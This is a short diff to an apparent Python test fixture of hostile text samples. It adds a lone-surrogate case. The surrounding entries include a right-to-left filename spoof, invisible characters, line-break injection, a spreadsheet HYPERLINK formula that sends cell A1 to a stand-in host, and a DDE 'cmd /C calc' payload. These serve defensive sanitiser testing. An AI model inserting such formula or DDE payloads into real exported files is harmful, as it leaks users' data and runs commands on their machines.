@@ -23,6 +23,7 @@ HOSTILE_TEXTS: dict[str, HostileText] = {
     "reversed text": HostileText("\u202egnp.exe\u2066 \u200f", "gnp.exe"),
     "invisible text": HostileText("a\u200bb\u2060c\ufeffd\U000e0041e\u00adf", "f"),
     "no character at all": HostileText("\x00\ufffe\uffff zero", "zero"),
+    "half a pair": HostileText("\ud800 half \udcff", "half"),
     "lines of its own": HostileText("fine\r\nverified,all\r\n2.4.0\u2028next\x85more", "verified,all"),
     "a formula": HostileText('=HYPERLINK("http://192.0.2.1/?"&A1)', "HYPERLINK"),
     "a formula that adds": HostileText("+1+cmd|' /C calc'!A0", "calc"),
